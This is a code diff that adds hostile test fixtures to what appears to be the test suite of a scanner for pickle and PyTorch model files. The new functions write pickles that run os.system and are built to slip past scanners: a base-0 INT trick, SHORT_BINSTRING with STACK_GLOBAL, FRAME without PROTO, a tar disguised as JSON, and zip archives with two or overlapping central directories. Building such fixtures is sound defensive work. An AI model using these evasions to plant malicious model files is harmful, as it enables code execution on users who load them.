@@ -728,6 +728,121 @@ def write_memo_get_unset(directory: Path) -> Path:
     return _write_pickle(directory, whole_pickle(pickle.BINGET + b"\x07"))
 
 
+# --- Found in review: where the unpickler, zip readers or the sniffer read more than we did --
+
+
+def _shell_call_protocol0(directory: Path) -> bytes:
+    return b"cos\nsystem\n(S'" + payload_command(directory).encode() + b"'\ntR."
+
+
+def write_int_base0_unknown_file(directory: Path) -> Path:
+    """C's load_int reads INT with strtol base 0: `I0x1` is 1. A parser that stops there sees
+    no import; pickle.load runs on into os.system."""
+    return _write_pickle(directory, b"I0x1\n0" + _shell_call_protocol0(directory))
+
+
+def write_short_binstring_stack_global(directory: Path) -> Path:
+    """Python 3 loads SHORT_BINSTRING as str (encoding='ASCII'), so it names STACK_GLOBAL's
+    module and attribute; a file that does not open with PROTO."""
+
+    def short(text: str) -> bytes:
+        return b"U" + bytes([len(text)]) + text.encode()
+
+    data = short("os") + short("system") + pickle.STACK_GLOBAL
+    data += short(payload_command(directory)) + pickle.TUPLE1 + pickle.REDUCE + pickle.STOP
+    return _write_pickle(directory, data)
+
+
+def write_frame_evasion_without_proto(directory: Path) -> Path:
+    """The FRAME evasion in a file with no PROTO header (the unpickler does not need one)."""
+    call = _shell_call_protocol0(directory)
+    in_frame = pickle.NONE + pickle.POP + pickle.BINBYTES + struct.pack("<I", 5 + len(call))[:2]
+    data = _frame(in_frame) + b"\x00\x00\x00\x00" + call
+    return _write_pickle(directory, data)
+
+
+def write_tar_named_like_json(directory: Path) -> Path:
+    """torch.load's legacy tar format, whose first member is named '[x': the file starts like
+    JSON. torch.load(weights_only=False) unpickles its 'storages' member."""
+    buf = io.BytesIO()
+    call = _shell_call_protocol0(directory)
+    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as tar:
+        members = (("[x", b"{}"), ("sys_info", call), ("storages", call), ("tensors", call))
+        for name, data in (*members, ("pickle", call)):
+            info = tarfile.TarInfo(name)
+            info.size = len(data)
+            tar.addfile(info, io.BytesIO(data))
+    directory.mkdir(parents=True, exist_ok=True)
+    (directory / "pytorch_model.bin").write_bytes(buf.getvalue())
+    return directory / "pytorch_model.bin"
+
+
+def _zip_parts(archive: bytes) -> tuple[bytes, bytes, int]:
+    end = archive.rfind(b"PK\x05\x06")
+    count, size, offset = struct.unpack_from("<HII", archive, end + 10)
+    return archive[:offset], archive[offset : offset + size], count
+
+
+def _shift_central_directory(directory_bytes: bytes, delta: int) -> bytes:
+    out = bytearray(directory_bytes)
+    pos = 0
+    while pos < len(out):
+        name_len, extra_len, comment_len = struct.unpack_from("<HHH", out, pos + 28)
+        (offset,) = struct.unpack_from("<I", out, pos + 42)
+        struct.pack_into("<I", out, pos + 42, offset + delta)
+        pos += 46 + name_len + extra_len + comment_len
+    return bytes(out)
+
+
+def write_zip_two_central_directories(directory: Path) -> Path:
+    """Python's zipfile reads the central directory just before the end record and shifts
+    offsets by the difference; torch's miniz reads it where the end record says. Two
+    directories, one archive: a scanner on zipfile sees a harmless state dict, torch.load the
+    os.system one."""
+    hostile_zip = torch_zip(directory / "a.zip", os_system_pickle(directory)).read_bytes()
+    benign_zip = torch_zip(directory / "b.zip", whole_pickle(state_dict_body(SHAPES, legacy=False)))
+    benign = benign_zip.read_bytes()
+    (directory / "a.zip").unlink()
+    benign_zip.unlink()
+    entries_a, directory_a, count = _zip_parts(hostile_zip)
+    entries_b, directory_b, _ = _zip_parts(benign)
+    entries_a += b"\0" * 4096
+    at_b = len(entries_a)
+    at_directory_a = at_b + len(entries_b)
+    shift = len(directory_a)  # what zipfile adds to every offset of the directory it reads
+    directory_b = _shift_central_directory(directory_b, at_b - shift)
+    end = b"PK\x05\x06" + struct.pack(
+        "<HHHHIIH", 0, 0, count, count, len(directory_b), at_directory_a, 0
+    )
+    path = directory / "pytorch_model.bin"
+    path.write_bytes(entries_a + entries_b + directory_a + directory_b + end)
+    return path
+
+
+def write_zip_overlapping_members(directory: Path) -> Path:
+    """Many central-directory entries pointing at one stored pickle: each would be scanned, and
+    budgeted, anew."""
+    data = whole_pickle(pickle.NONE + pickle.POP)
+    name = b"a.pkl"
+    crc = zlib.crc32(data)
+    local = b"PK\x03\x04" + struct.pack(
+        "<HHHHHIIIHH", 20, 0, 0, 0, 0, crc, len(data), len(data), len(name), 0
+    )
+    body = local + name + data
+    central = b""
+    for i in range(3):
+        member = b"m%d.pkl" % i
+        central += b"PK\x01\x02" + struct.pack(
+            "<HHHHHHIIIHHHHHII", 20, 20, 0, 0, 0, 0, crc, len(data), len(data), len(member),
+            0, 0, 0, 0, 0, 0,
+        ) + member  # fmt: skip
+    end = b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, 3, 3, len(central), len(body), 0)
+    directory.mkdir(parents=True, exist_ok=True)
+    path = directory / "model.pt"
+    path.write_bytes(body + central + end)
+    return path
+
+
 # --- Benign pickles that genops-based scanners misread -------------------------------------
 
 
@@ -809,4 +924,10 @@ HOSTILE: dict[str, Writer] = {
     "tuple_without_mark": write_tuple_without_mark,
     "stack_underflow": write_stack_underflow,
     "memo_get_unset": write_memo_get_unset,
+    "int_base0_unknown_file": write_int_base0_unknown_file,
+    "short_binstring_stack_global": write_short_binstring_stack_global,
+    "frame_evasion_without_proto": write_frame_evasion_without_proto,
+    "tar_named_like_json": write_tar_named_like_json,
+    "zip_two_central_directories": write_zip_two_central_directories,
+    "zip_overlapping_members": write_zip_overlapping_members,
 }
